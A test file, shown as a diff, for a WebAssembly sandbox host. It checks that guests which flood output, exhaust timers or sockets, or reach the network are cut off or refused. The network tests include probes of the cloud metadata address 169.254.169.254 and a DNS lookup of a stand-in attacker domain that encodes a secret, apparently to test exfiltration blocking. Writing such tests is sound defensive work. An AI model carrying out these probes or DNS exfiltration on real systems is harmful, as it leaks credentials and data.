@@ -1,0 +1,217 @@
+//! Guests that ask the host for what they must not have, or for too much of what they may.
+
+use std::fmt::Write as _;
+
+use bellwether_tests::composed::{Guest, WELL, text};
+
+use super::act::{Act, Becomes};
+use super::family;
+
+const WAITING: Becomes = Becomes::Unknown("ended after 300ms: it was still waiting");
+const WELL_SAID: Becomes = Becomes::Told("pass", "allwell");
+
+#[test]
+fn guests_that_flood_and_guests_that_wait_are_ended_and_nobody_else_notices() {
+    family::run("floods", &[floods(), waits()].concat());
+}
+
+#[test]
+fn guests_that_reach_for_what_is_not_theirs_get_nothing_and_nobody_else_notices() {
+    family::run("reach", &[addresses(), nothing_there()].concat());
+}
+
+/// The same call again and again.
+fn again(call: &str) -> String {
+    format!("(loop $l {call} (br $l)) unreachable")
+}
+
+fn floods() -> Vec<Act> {
+    let log = again("(call $log (i32.const 2) (i32.const 16) (i32.const 7))");
+    let (segment, place) = text(&"wolf ".repeat(500));
+    let shout = again(&format!("(call $write (call $stderr) {place} (i32.const 512))"));
+    let random = again("(drop (call $random))");
+    let tcp = again("(call $tcp_socket (i32.const 0) (i32.const 512))");
+    let dropped = again(
+        "(call $tcp_socket (i32.const 0) (i32.const 512)) (call $drop_socket (i32.load (i32.const 516)))",
+    );
+    let udp = again("(call $udp_socket (i32.const 1) (i32.const 512))");
+    let keep = |bytes: u32| {
+        format!(
+            "(call $set (i32.const 16) (i32.const 3) (i32.const 0) (i32.const {bytes}) (i32.const 512))
+             (if (i32.eqz (i32.load8_u (i32.const 512))) (then unreachable)) {WELL}"
+        )
+    };
+    let entries = "(loop $l (i32.store (i32.const 600) (i32.add (i32.load (i32.const 600)) (i32.const 1)))
+         (call $set (i32.const 600) (i32.const 1) (i32.const 0) (i32.const 2000) (i32.const 512))
+         (br_if $l (i32.eqz (i32.load8_u (i32.const 512))))) ";
+    vec![
+        Act::checking("flood-the-log", &log, Becomes::Unknown("said more than 1 MiB in one run")),
+        Act::checking("flood-a-small-log", &log, Becomes::Unknown("said more than 4 KiB in one run"))
+            .limited("output = \"4KiB\", log-lines = 1"),
+        Act::new(
+            "shout-in-webassembly",
+            &Guest::checking(shout).with(segment),
+            Becomes::Unknown("said more than 1 MiB in one run"),
+        ),
+        Act::of_rust("shout", Becomes::Unknown("said more than 1 MiB in one run")),
+        Act::checking(
+            "a-million-numbers",
+            &random,
+            Becomes::Unknown("called the host more than 100000 times in one run"),
+        ),
+        Act::checking(
+            "few-calls",
+            &random,
+            Becomes::Unknown("called the host more than 1000 times in one run"),
+        )
+        .limited("host-calls = 1000"),
+        Act::checking(
+            "much-randomness",
+            "(call $random_bytes (i64.const 1000000000) (i32.const 512)) unreachable",
+            Becomes::Unknown("trapped: "),
+        ),
+        Act::checking("sockets", &tcp, Becomes::Unknown("made more than 64 sockets in one run")),
+        Act::checking("dropped-sockets", &dropped, Becomes::Unknown("made more than 64 sockets in one run")),
+        Act::checking("few-sockets", &udp, Becomes::Unknown("made more than 3 sockets in one run"))
+            .limited("sockets = 3"),
+        Act::checking("too-much-to-keep", &keep(65_500), WELL_SAID),
+        Act::checking("little-is-kept", &keep(1000), WELL_SAID).limited("state = \"1KiB\""),
+        Act::checking("many-to-keep", &format!("{entries}{WELL}"), WELL_SAID),
+    ]
+}
+
+fn waits() -> Vec<Act> {
+    let asleep = "(call $block (call $timer (i64.const 60000000000))) unreachable";
+    let naps = again(
+        "(local.set $i (call $timer (i64.const 1000000))) (call $block (local.get $i)) (call $drop_timer (local.get $i))",
+    );
+    // 900 timers that never come, asked all at once.
+    let many = "(loop $l
+            (i32.store (i32.add (i32.const 2048) (i32.mul (local.get $i) (i32.const 4)))
+                (call $timer (i64.const 60000000000)))
+            (local.set $i (i32.add (local.get $i) (i32.const 1)))
+            (br_if $l (i32.lt_u (local.get $i) (i32.const 900))))
+        (call $poll (i32.const 2048) (i32.const 900) (i32.const 512)) unreachable";
+    let input = format!("(call $read (call $stdin) (i64.const 100) (i32.const 512)) {WELL}");
+    vec![
+        Act::checking("asleep", asleep, WAITING).endless(),
+        Act::checking("naps", &naps, Becomes::Unknown("ended after 300ms: it was still ")).endless(),
+        Act::checking("wait-for-many", many, WAITING).endless(),
+        Act::checking(
+            "wait-for-nothing",
+            "(call $poll (i32.const 2048) (i32.const 0) (i32.const 512)) unreachable",
+            Becomes::Unknown("trapped: "),
+        ),
+        Act::checking("listen-to-nobody", &input, WELL_SAID),
+        Act::of_rust("sleep", WAITING).endless(),
+    ]
+}
+
+/// An address as it is passed: which family, and eleven numbers.
+fn address(family: u32, numbers: &[u32]) -> String {
+    let mut text = format!("(i32.const {family})");
+    for at in 0..11 {
+        let number = numbers.get(at).copied().unwrap_or_default();
+        let _ = write!(text, " (i32.const {number})");
+    }
+    text
+}
+
+/// With a socket of that family: `call` it with the address, and tell that it could not.
+fn with_socket(family: u32, make: &str, call: &str, numbers: &[u32]) -> String {
+    format!(
+        "(call {make} (i32.const {family}) (i32.const 512))
+         (if (i32.load8_u (i32.const 512)) (then
+            (return (call $answer (i32.const 3) (i32.const 16) (i32.const 7)))))
+         (call {call} (i32.load (i32.const 516)) (call $network) {} (i32.const 520))
+         (if (i32.eqz (i32.load8_u (i32.const 520))) (then (return {WELL})))
+         (call $answer (i32.const 3) (i32.const 16) (i32.const 7))",
+        address(family, numbers)
+    )
+}
+
+fn addresses() -> Vec<Act> {
+    // 8 is would-block: ask again.
+    let tcp = |family, numbers: &[u32]| {
+        format!(
+            "(call $tcp_socket (i32.const {family}) (i32.const 512))
+             (call $connect (i32.load (i32.const 516)) (call $network) {} (i32.const 520))
+             (if (i32.eqz (i32.load8_u (i32.const 520))) (then (loop $again
+                (call $finish_connect (i32.load (i32.const 516)) (i32.const 520))
+                (if (i32.eqz (i32.load8_u (i32.const 520))) (then (return {WELL})))
+                (br_if $again (i32.eq (i32.load8_u (i32.const 524)) (i32.const 8))))))
+             (call $answer (i32.const 3) (i32.const 16) (i32.const 7))",
+            address(family, numbers)
+        )
+    };
+    let listen = format!(
+        "(call $tcp_socket (i32.const 0) (i32.const 512))
+         (local.set $i (i32.load (i32.const 516)))
+         (call $bind (local.get $i) (call $network) {} (i32.const 520))
+         (call $finish_bind (local.get $i) (i32.const 520))
+         (call $listen (local.get $i) (i32.const 520))
+         (if (i32.eqz (i32.load8_u (i32.const 520))) (then (return {WELL})))
+         (call $answer (i32.const 3) (i32.const 16) (i32.const 7))",
+        address(0, &[])
+    );
+    let lookup = |name: &'static str| {
+        let (segment, place) = text(name);
+        let check = format!(
+            "(call $resolve (call $network) {place} (i32.const 520))
+             (if (i32.eqz (i32.load8_u (i32.const 520))) (then (return {WELL})))
+             (call $answer (i32.const 3) (i32.const 16) (i32.const 7))"
+        );
+        Guest::checking(check).with(segment)
+    };
+    vec![
+        Act::checking(
+            "connect",
+            &tcp(0, &[9, 127, 0, 0, 1]),
+            Becomes::Unknown("refused: connect to 127.0.0.1:9"),
+        ),
+        Act::checking(
+            "connect-to-metadata",
+            &tcp(0, &[80, 169, 254, 169, 254]),
+            Becomes::Unknown("refused: connect to 169.254.169.254:80"),
+        ),
+        Act::checking(
+            "connect-to-ipv6",
+            &tcp(1, &[9, 0, 0, 0, 0, 0, 0, 0, 0, 1]),
+            Becomes::Unknown("refused: connect to [::1]:9"),
+        ),
+        Act::checking(
+            "connect-to-mapped",
+            &tcp(1, &[9, 0, 0, 0, 0, 0, 0, 0xffff, 0x7f00, 1]),
+            Becomes::Told("unknown", "allwell"),
+        ),
+        Act::checking(
+            "bind",
+            &with_socket(0, "$tcp_socket", "$bind", &[8080, 127, 0, 0, 1]),
+            Becomes::Unknown("refused: "),
+        ),
+        Act::checking(
+            "bind-udp",
+            &with_socket(0, "$udp_socket", "$udp_bind", &[5353, 127, 0, 0, 1]),
+            Becomes::Told("unknown", "allwell"),
+        ),
+        Act::checking("listen", &listen, Becomes::Unknown("refused: ")),
+        Act::new("look-up", &lookup("db.internal"), Becomes::Unknown("refused: look up ")),
+        Act::new(
+            "tell-by-looking-up",
+            &lookup("the-secret-is-xyzzy.attacker.example"),
+            Becomes::Unknown("refused: look up "),
+        ),
+        Act::new("look-up-itself", &lookup("localhost"), Becomes::Unknown("refused: look up ")),
+    ]
+}
+
+/// What a guest finds empty, however it asks.
+fn nothing_there() -> Vec<Act> {
+    let none = |call: &str| {
+        format!("(call {call} (i32.const 512)) (if (i32.load (i32.const 516)) (then unreachable)) {WELL}")
+    };
+    vec![
+        Act::checking("environment", &none("$environment"), WELL_SAID),
+        Act::checking("folders", &none("$folders"), WELL_SAID),
+    ]
+}
